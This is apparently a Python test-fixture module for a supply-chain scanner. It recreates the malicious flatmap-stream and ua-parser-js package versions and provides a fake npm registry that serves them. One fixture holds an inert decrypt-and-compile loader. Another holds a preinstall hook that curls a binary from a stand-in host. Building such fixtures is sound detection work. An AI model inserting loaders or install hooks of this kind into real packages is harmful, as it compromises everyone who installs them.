"""Package pairs shaped like real supply-chain incidents, and registry fakes that serve them."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from typing import Any

from scanner.registry.packument import Packument, Unavailable, VersionInfo
from scanner.tarball.integrity import sri_sha512

from .builders import package

REGISTRY = "https://registry.example.test/"

# Stand-in for flatmap-stream 0.1.1's AES-encrypted payload: random-looking hex.
PAYLOAD = hashlib.sha512(b"not the real payload").hexdigest() * 8

FLATMAP_OLD = package(
    "flatmap-stream",
    "0.1.0",
    {"index.js": "var Stream = require('stream').Stream;\nmodule.exports = function () {};\n"},
)
FLATMAP_NEW = package(
    "flatmap-stream",
    "0.1.1",
    {
        "index.js": (
            "var Stream = require('stream').Stream;\n"
            "module.exports = function () {};\n"
            f"!function(){{try{{var r=require,t=process;var e=r('crypto');var n='{PAYLOAD}';"
            "var o=e.createDecipher('aes256',t.env.npm_package_description);"
            "var s=o.update(n,'hex','utf8');s+=o.final('utf8');"
            "var a=new module.constructor;a._compile(s,'');}catch(e){}}();\n"
        )
    },
)
EVENT_STREAM_OLD = package(
    "event-stream", "3.3.5", {"index.js": "exports.x = 1;\n"}, dependencies={"through": "~2.3.1"}
)
EVENT_STREAM_NEW = package(
    "event-stream",
    "3.3.6",
    {"index.js": "exports.x = 1;\n"},
    dependencies={"through": "~2.3.1", "flatmap-stream": "^0.1.0"},
)
UA_OLD = package("ua-parser-js", "0.7.28", {"src/ua-parser.js": "module.exports = {};\n"})
UA_NEW = package(
    "ua-parser-js",
    "0.7.29",
    {
        "src/ua-parser.js": "module.exports = {};\n",
        "preinstall.js": (
            "const { exec } = require('child_process');\n"
            "exec('curl https://download.example.test/jsextension -o jsextension');\n"
        ),
    },
    scripts={"preinstall": "start /B node preinstall.js & node preinstall.js"},
)

PACKAGES: dict[tuple[str, str], bytes] = {
    ("flatmap-stream", "0.1.0"): FLATMAP_OLD,
    ("flatmap-stream", "0.1.1"): FLATMAP_NEW,
    ("event-stream", "3.3.5"): EVENT_STREAM_OLD,
    ("event-stream", "3.3.6"): EVENT_STREAM_NEW,
    ("ua-parser-js", "0.7.28"): UA_OLD,
    ("ua-parser-js", "0.7.29"): UA_NEW,
}


def tarball_url(name: str, version: str, registry: str = REGISTRY) -> str:
    return f"{registry}{name}/-/{name.rsplit('/', 1)[-1]}-{version}.tgz"


def version_info(name: str, version: str, data: bytes, **fields: Any) -> VersionInfo:
    return VersionInfo(
        version=version,
        integrity=sri_sha512(data),
        shasum=hashlib.sha1(data).hexdigest(),
        tarball=tarball_url(name, version),
        **fields,
    )


def honest_packuments() -> list[Packument]:
    """Registry documents that agree with the tarballs above."""
    infos: dict[str, dict[str, VersionInfo]] = {}
    for (name, version), data in PACKAGES.items():
        extra: dict[str, Any] = {}
        if (name, version) == ("ua-parser-js", "0.7.29"):
            extra["scripts"] = {"preinstall": "start /B node preinstall.js & node preinstall.js"}
        if name == "event-stream":
            extra["dependencies"] = (
                {"through": "~2.3.1", "flatmap-stream": "^0.1.0"}
                if version == "3.3.6"
                else {"through": "~2.3.1"}
            )
        infos.setdefault(name, {})[version] = version_info(name, version, data, **extra)
    return [
        Packument(name, versions, time={"created": "2012-01-01T00:00:00.000Z"})
        for name, versions in infos.items()
    ]


class FakeRegistry:
    """Serves documents and tarball bytes from dicts; counts what was asked."""

    def __init__(
        self, documents: Iterable[Packument], tarballs: dict[str, bytes] | None = None
    ) -> None:
        self.documents = {d.name: d for d in documents}
        self.tarballs = (
            tarballs
            if tarballs is not None
            else {tarball_url(n, v): data for (n, v), data in PACKAGES.items()}
        )
        self.tarball_calls: list[str] = []

    def packuments(self, names: Iterable[str]) -> dict[str, Packument | Unavailable]:
        return {n: self.packument(n) for n in names}

    def packument(self, name: str) -> Packument | Unavailable:
        return self.documents.get(name) or Unavailable(name, "HTTP 404 Not Found")

    def tarball(self, url: str, *, integrity: str | None, shasum: str | None, name: str) -> bytes:
        # Deliberately does not verify: the code under test must not rely on the client alone.
        self.tarball_calls.append(url)
        return self.tarballs[url]
